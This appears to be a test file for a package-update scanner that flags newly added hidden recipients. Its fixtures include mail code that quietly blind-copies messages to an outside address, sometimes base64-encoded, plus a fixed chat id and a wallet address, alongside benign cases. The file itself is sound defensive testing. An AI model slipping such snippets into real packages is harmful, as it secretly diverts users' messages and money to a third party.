import { testDetector } from "../../test/test-detector.ts";
import type { Sample } from "../../test/sample.ts";
import { newRecipient } from "./index.ts";

function step(before: string, after: string, version = "1.0.1"): Sample {
  const manifest = { name: "sample", main: "index.js", author: "Acme <hello@acme.example>" };
  return {
    "before/package.json": JSON.stringify({ ...manifest, version: "1.0.0" }),
    "before/index.js": before,
    "package.json": JSON.stringify({ ...manifest, version }),
    "index.js": after,
  };
}

const mailer = (more: string): string =>
  `exports.send = (client, to, text) => client.request("POST", "/email", { To: to, ${more} TextBody: text });\n`;

testDetector(newRecipient, {
  fires: {
    "a blind copy of every mail": ["strong", step(mailer(""), mailer('Bcc: "collect@shop.invalid",'))],
    "a copy to the author's own domain": ["strong", step(mailer(""), mailer('Bcc: "copies@acme.example",'))],
    "a copy that is set afterwards, in a list": [
      "strong",
      step(
        mailer(""),
        `exports.send = (client, mail) => { mail.bcc = ["collect@shop.invalid"]; return client.send(mail); };`,
      ),
    ],
    "one more address behind the given one": [
      "strong",
      step(mailer(""), `exports.send = (client, to) => client.send({ to: to + ", collect@shop.invalid" });`),
    ],
    "a field of a form": [
      "strong",
      step(
        mailer(""),
        `exports.send = (form, to) => { form.append("to", to); form.append("bcc", "collect@shop.invalid"); };`,
      ),
    ],
    "an address that is decoded": [
      "strong",
      step(mailer(""), mailer('Bcc: Buffer.from("Y29sbGVjdEBzaG9wLmludmFsaWQ=", "base64").toString(),')),
    ],
    "a fixed chat": [
      "strong",
      step(
        mailer(""),
        `exports.send = (bot, text) => bot.post("/sendMessage", { chat_id: -1001234567890, text });`,
      ),
    ],
    "the same in a major release": [
      "supporting",
      step(mailer(""), mailer('Bcc: "collect@shop.invalid",'), "2.0.0"),
    ],
    "an account that is paid": [
      "supporting",
      step(mailer(""), `exports.pay = (w) => w.send({ to: "0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045" });`),
    ],
  },
  silent: {
    "a copy that callers ask for": step(mailer(""), mailer("...(exports.bcc && { Bcc: exports.bcc }),")),
    "a recipient that was there": step(
      mailer('Bcc: "archive@acme.example",'),
      mailer('Bcc: "archive@acme.example", Tag: 1,'),
    ),
    "a form that goes to its makers": step(mailer(""), mailer('recipients: ["support@acme.example"],')),
    "an example": step(mailer(""), mailer('cc: "someone@example.com",')),
    "an address that receives nothing": step(
      mailer(""),
      mailer('From: "robot@shop.invalid", author: "a@b.invalid",'),
    ),
    "numbers, names and ranges": step(mailer(""), mailer('to: 12345678, recipient: "user", cc: "gcc",')),
  },
});
